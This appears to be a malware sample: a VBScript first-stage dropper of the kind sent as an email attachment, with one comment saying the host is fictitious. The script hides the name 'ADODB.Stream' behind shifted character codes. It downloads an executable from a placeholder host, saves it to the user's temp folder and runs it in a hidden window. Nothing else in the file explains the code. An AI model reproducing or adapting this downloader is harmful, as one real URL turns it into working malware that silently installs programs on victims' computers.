' A stage as it arrives by mail; the host does not exist.
Function plain(parts)
  Dim i
  For i = 0 To UBound(parts)
    plain = plain & Chr(parts(i) - 5)
  Next
End Function
Set request = CreateObject("MSXML2.XMLHTTP")
request.Open "GET", "https://files.invalid/viewer.exe", False
request.Send
Set stream = CreateObject(plain(Array(70, 73, 84, 73, 71, 51, 88, 121, 119, 106, 102, 114)))
With stream
  .Type = 1 : .Open : .Write request.ResponseBody
  .SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\viewer.exe", 2
End With
CreateObject("WScript.Shell").Run "%TEMP%\viewer.exe", 0, False
